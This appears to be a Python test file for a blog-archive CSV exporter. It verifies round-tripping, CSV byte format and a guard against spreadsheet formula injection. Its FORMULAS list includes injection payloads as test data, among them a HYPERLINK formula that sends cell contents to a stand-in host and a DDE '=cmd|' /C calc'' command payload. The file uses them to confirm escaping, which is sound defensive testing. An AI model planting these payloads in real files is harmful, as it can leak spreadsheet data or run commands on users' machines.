"""CSV: read back by Python's own reader, guarded against formulas, and reversible."""

import csv
import io
import re
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blogarchive.export import Options, to_csv
from blogarchive.model import Comment, Person, Post, Precision, Reply, SettledComment, SettledPost, Snapshot, Timestamp
from tests.model.test_codec import SEED
from tests.strategies import characters, snapshots, texts

CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "   @x",
    "\u00a0=1",
    "\0=1",
    "＝1",
    "＠Sweb",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@Sweb >> merci",
]


def table(snapshot: Snapshot, options: Options) -> list[dict[str, str]]:
    """The rows as Python's reader sees them."""
    return list(csv.DictReader(io.StringIO("".join(to_csv.render(snapshot, options)), newline="")))


def with_text(text: str, author: str = "x") -> Snapshot:
    """A snapshot of one comment."""
    comment = SettledComment(id="1", record=Comment(text=text, author=Person(name=author)))
    return Snapshot(url="http://b.example/", taken_at=SEED.taken_at, post=SEED.post, comments=(comment,))


@given(snapshots(), st.booleans())
@settings(deadline=None, max_examples=50)
def test_what_is_read_back_is_what_was_said(snapshot: Snapshot, guarded: bool) -> None:
    """Every cell comes back exactly, but for control characters, with the guard taken off or never put on."""
    rows = table(snapshot, Options(guard=guarded))
    assert len(rows) == len(snapshot.comments)
    for row, settled in zip(rows, snapshot.comments, strict=True):
        cells = {column: to_csv.unguard(cell) if guarded else cell for column, cell in row.items()}
        comment = settled.record
        wanted = {
            "id": settled.id,
            "text": comment.text,
            "author": comment.author.name,
            "author_url": comment.author.url,
            "parent": comment.parent,
            "post_title": snapshot.post.record.title,
            "published": comment.published.isoformat() if comment.published else None,
            "published_raw": comment.published.raw if comment.published else None,
        }
        assert {key: cells[key] for key in wanted} == {
            key: CONTROLS.sub("", value or "") for key, value in wanted.items()
        }


@given(texts | st.text(st.sampled_from(" '=+-@\t\r\nx＝"), max_size=8))
def test_the_guard_is_reversible(cell: str) -> None:
    """`unguard` undoes `guard` and leaves alone whatever `guard` left alone."""
    guarded = to_csv.guard(cell)
    assert to_csv.unguard(guarded) == cell
    assert not re.match(r"\s*[=+\-@＝＋－＠]", guarded)
    if guarded == cell:
        assert to_csv.unguard(cell) == cell


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas(text: str) -> None:
    """No guarded cell begins with a sign of a formula, with a tab or with a carriage return; `guard=False` leaves the text alone."""
    shown = text.replace("\0", "")
    assert table(with_text(text, text), Options())[0]["text"] == f"'{shown}"
    assert table(with_text(text, text), Options())[0]["author"] == f"'{shown}"
    assert table(with_text(text, text), Options(guard=False))[0]["text"] == shown


@pytest.mark.parametrize("text", ["hello = 1", "a@b.example", "1-1", "", " ", "'tis", "«+»", "(=1)", "2010-05-22"])
def test_what_is_no_formula_stays(text: str) -> None:
    """The guard changes nothing else."""
    assert table(with_text(text), Options())[0]["text"] == text


def test_bytes() -> None:
    """CRLF after each record, a header line, quotes only where needed and doubled inside, line feeds in texts kept."""
    text = "".join(to_csv.render(with_text('a "b", c\nd\r\ne')))
    assert text.startswith("post_url,post_title,id,kind,state,parent,answers,author,")
    assert text.endswith("\r\n")
    assert '"a ""b"", c\nd\r\ne"' in text
    assert len(re.findall("(?<!d)\r\n", text)) == 2


@given(snapshots())
@settings(deadline=None, max_examples=50)
def test_rows_are_written_as_pythons_writer_writes_them(snapshot: Snapshot) -> None:
    """Byte for byte, whatever the cells hold."""
    text = "".join(to_csv.render(snapshot, Options(post_row=True)))
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n").writerows(csv.reader(io.StringIO(text, newline="")))
    assert again.getvalue() == text


def test_byte_order_mark() -> None:
    """Only on request, and once."""
    assert "".join(to_csv.render(SEED, Options(bom=True))).count("\ufeff") == 1
    assert "".join(to_csv.render(SEED, Options(bom=True))).startswith("\ufeffpost_url")
    assert "\ufeff" not in "".join(to_csv.render(SEED))


def test_the_posts_own_row() -> None:
    """First, and only on request."""
    post = Post(
        native_id="7",
        url="http://b.example/p",
        title="T",
        authors=(Person(name="Cath"), Person(name="Zoé")),
        text="body",
        published=Timestamp(raw="mai 2010", local=datetime(2010, 5, 1), precision=Precision.MONTH),
    )
    snapshot = Snapshot(
        url="u",
        taken_at=SEED.taken_at,
        post=SettledPost(record=post, sources={"text": "page"}),
        comments=SEED.comments,
    )
    rows = table(snapshot, Options(post_row=True))
    assert [row["kind"] for row in rows] == ["post", "comment"]
    first = rows[0]
    assert (first["id"], first["author"], first["text"]) == ("7", "Cath, Zoé", "body")
    assert (first["published"], first["published_raw"], first["published_precision"]) == (
        "2010-05",
        "mai 2010",
        "month",
    )
    assert first["sources"] == "text=page"
    assert len(table(snapshot, Options())) == 1


def test_columns_of_a_comment() -> None:
    """Who answers whom, who supplied what."""
    comments = (
        *SEED.comments,
        SettledComment(
            id="b",
            record=Comment(parent="1203", author=Person(is_post_author=True)),
            sources={"text": "page", "parent": "feed"},
        ),
    )
    replies = (Reply(child="b", parent="1203", stated=True), Reply(child="b", parent="x", stated=False))
    row = table(
        Snapshot(url="u", taken_at=SEED.taken_at, post=SEED.post, comments=comments, replies=replies), Options()
    )[1]
    assert (row["parent"], row["answers"]) == ("1203", "1203 x")
    assert row["is_post_author"] == "true"
    assert row["sources"] == "text=page; parent=feed"
    assert tuple(row) == to_csv.COLUMNS


@given(st.text(characters))
def test_every_text_can_be_encoded(text: str) -> None:
    """Half characters that an API escaped into its JSON do not stop an export."""
    "".join(to_csv.render(with_text(text + "\ud83d"))).encode("utf-8")
